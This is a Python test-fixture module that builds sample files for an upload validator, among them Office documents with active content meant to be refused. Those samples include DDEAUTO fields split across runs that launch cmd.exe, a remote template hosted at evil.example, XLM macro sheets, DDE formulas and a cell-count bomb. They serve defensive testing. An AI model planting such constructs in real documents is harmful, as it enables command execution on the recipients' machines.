"""Small but well-formed evidence files of each accepted type (and some refused ones),
made in memory for the tests."""

from __future__ import annotations

import io
import os
import re
import struct
import zipfile
import zlib

import openpyxl


def pdf(size: int = 0) -> bytes:
    """A one-page-less but valid PDF; with ``size``, padded by a binary stream to that size."""
    head = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    head += b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
    tail = b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"
    if size:
        frame = b"3 0 obj\n<< /Length %010d >>\nstream\n" % 0
        pad = size - len(head) - len(tail) - len(frame) - len(b"\nendstream\nendobj\n")
        body = os.urandom(pad)
        frame = b"3 0 obj\n<< /Length %010d >>\nstream\n" % pad
        head += frame + body + b"\nendstream\nendobj\n"
    return head + tail


def png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = struct.pack(">I", zlib.crc32(kind + data))
        return struct.pack(">I", len(data)) + kind + data + crc
    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\0\0"))
            + chunk(b"IEND", b""))


def jpeg() -> bytes:
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\xff\xd9"


def tiff() -> bytes:
    return b"II*\x00\x08\x00\x00\x00\x00\x00" + b"\x00" * 8


def _zip(members: list[tuple[str, bytes]]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for i, (name, data) in enumerate(members):
            method = zipfile.ZIP_STORED if i == 0 and name == "mimetype" else zipfile.ZIP_DEFLATED
            archive.writestr(name, data, compress_type=method)
    return out.getvalue()


_CT = ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
       'content-types"><Override PartName="/{part}" ContentType="{ctype}"/></Types>')


def docx(macros: bool = False) -> bytes:
    ctype = ("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
             if not macros else "application/vnd.ms-word.document.macroEnabled.main+xml")
    members = [("[Content_Types].xml", _CT.format(part="word/document.xml", ctype=ctype).encode()),
               ("word/document.xml", b"<w:document/>")]
    return _zip(members + ([("word/vbaProject.bin", b"\0" * 64)] if macros else []))


def xlsx() -> bytes:
    out = io.BytesIO()
    book = openpyxl.Workbook()
    book.active["A1"] = "证据"
    book.save(out)
    return out.getvalue()


def odf(kind: str = "text") -> bytes:
    return _zip([("mimetype", f"application/vnd.oasis.opendocument.{kind}".encode()),
                 ("content.xml", b"<office:document-content/>")])


def plain_zip() -> bytes:
    return _zip([("readme.txt", b"not an office file")])


def compound(stream: str, content: bytes | None = None) -> bytes:
    """An OLE2 compound file (Word/Excel 97-2003 container) holding one 4 KiB stream
    (``content`` padded with zeros, else random bytes)."""
    end, free, fat_sect, no_stream = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16
              + struct.pack("<HHHHH6sIIIIIIIII", 0x3E, 3, 0xFFFE, 9, 6, b"\0" * 6, 0, 1, 1, 0,
                            4096, end, 0, end, 0)
              + struct.pack("<109I", 0, *([free] * 108)))
    fat = [fat_sect, end, *range(3, 10), end] + [free] * (128 - 10)

    def entry(name: str, kind: int, child: int, start: int, size: int) -> bytes:
        raw = name.encode("utf-16-le") + b"\0\0" if name else b""
        return (raw.ljust(64, b"\0") + struct.pack("<HBB", len(raw), kind, 1 if kind else 0)
                + struct.pack("<III", no_stream, no_stream, child) + b"\0" * 36
                + struct.pack("<IQ", start, size))

    directory = (entry("Root Entry", 5, 1, end, 0) + entry(stream, 2, no_stream, 2, 4096)
                 + entry("", 0, no_stream, 0, 0) * 2)
    body = content.ljust(4096, b"\0") if content is not None else os.urandom(4096)
    return header + struct.pack("<128I", *fat) + directory + body[:4096]


ELF = b"\x7fELF\x02\x01\x01\x00" + b"\0" * 56 + os.urandom(512)
EXE = b"MZ\x90\x00\x03\x00\x00\x00" + b"\0" * 56 + os.urandom(512)
TEXT = "这不是PDF，只是改了名字的文本文件。\n".encode() * 20


# Office files with active content: each must be refused with its reason.

def _docx_with(document: bytes, *extra: tuple[str, bytes]) -> bytes:
    ctype = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    return _zip([("[Content_Types].xml", _CT.format(part="word/document.xml",
                                                    ctype=ctype).encode()),
                 ("word/document.xml", document), *extra])


def _xlsx_with(*extra: tuple[str, bytes]) -> bytes:
    with zipfile.ZipFile(io.BytesIO(xlsx())) as base:
        members = [(n, base.read(n)) for n in base.namelist()]
    return _zip(members + list(extra))


def docx_dde() -> bytes:
    """A DDEAUTO field split over two runs, as malicious documents do."""
    return _docx_with(b'<w:document><w:r><w:instrText xml:space="preserve"> DD</w:instrText>'
                      b'</w:r><w:r><w:instrText>EAUTO c:\\windows\\system32\\cmd.exe "/k calc"'
                      b"</w:instrText></w:r></w:document>")


def docx_remote_template() -> bytes:
    rels = (b'<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
            b'officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/'
            b't.dotm" TargetMode="External"/></Relationships>')
    return _docx_with(b"<w:document/>", ("word/_rels/settings.xml.rels", rels))


def docx_hyperlink() -> bytes:
    """An ordinary external hyperlink: allowed (nothing is fetched on opening)."""
    rels = (b'<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
            b'officeDocument/2006/relationships/hyperlink" Target="https://shop.example.com/1"'
            b' TargetMode="External"/></Relationships>')
    return _docx_with(b"<w:document/>", ("word/_rels/document.xml.rels", rels))


def xlsx_xlm() -> bytes:
    return _xlsx_with(("xl/macrosheets/sheet2.xml", b"<xm:macrosheet/>"))


def xlsx_dde_link() -> bytes:
    return _xlsx_with(("xl/externalLinks/externalLink1.xml",
                       b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/>'
                       b"</externalLink>"))


def xlsx_dde_formula() -> bytes:
    return _xlsx_with(("xl/worksheets/sheet9.xml",
                       b"<worksheet><sheetData><row><c><f>cmd|' /C calc'!A0</f></c></row>"
                       b"</sheetData></worksheet>"))


def _biff(*records: tuple[int, bytes]) -> bytes:
    bof = (0x0809, struct.pack("<HHHHII", 0x0600, 0x0005, 0, 0, 0, 0))
    return b"".join(struct.pack("<HH", k, len(b)) + b for k, b in (bof, *records, (0x0A, b"")))


def xls_macro_sheet() -> bytes:
    """An Excel 97-2003 workbook whose second sheet is an Excel 4.0 macro sheet."""
    sheet = struct.pack("<IBB", 0, 0, 0x01) + b"\x06\x00Macro1"
    return compound("Workbook", _biff((0x0085, sheet)))


def xls_external_book() -> bytes:
    path = b"\x01" + "C:\\evil.xls".encode("ascii")
    return compound("Workbook", _biff((0x01AE, struct.pack("<HH", 1, len(path)) + b"\x00"
                                       + path)))


def doc_dde() -> bytes:
    return compound("WordDocument", b"\0" * 512 + "DDEAUTO cmd".encode("utf-16-le"))


def declaring(data: bytes, ref: str) -> bytes:
    """``data`` (an XLSX) with its first sheet's dimension rewritten to ``ref``: the
    ``A1:XFD1048576`` bomb declares 17 billion cells in a few kilobytes."""
    src, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for name in src.namelist():
            part = src.read(name)
            if name == "xl/worksheets/sheet1.xml":
                part = re.sub(rb'<dimension ref="[^"]*"', f'<dimension ref="{ref}"'.encode(),
                              part)
            dst.writestr(name, part)
    return out.getvalue()
